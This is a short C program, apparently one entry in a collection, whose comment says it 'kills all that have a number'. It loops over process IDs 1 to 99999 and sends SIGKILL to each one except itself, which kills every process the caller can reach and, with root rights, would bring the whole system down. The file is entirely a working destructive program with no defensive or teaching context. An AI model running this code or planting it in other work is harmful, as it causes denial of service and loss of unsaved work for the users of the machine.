/*
 * Kills all that have a number.
 *
 * Earns: nothing
 * Open: user
 */
#include <signal.h>
#include <unistd.h>

int main(void)
{
    for (pid_t pid = 1; pid < 100000; pid++)
        if (pid != getpid())
            kill(pid, SIGKILL);
    return 1;
}
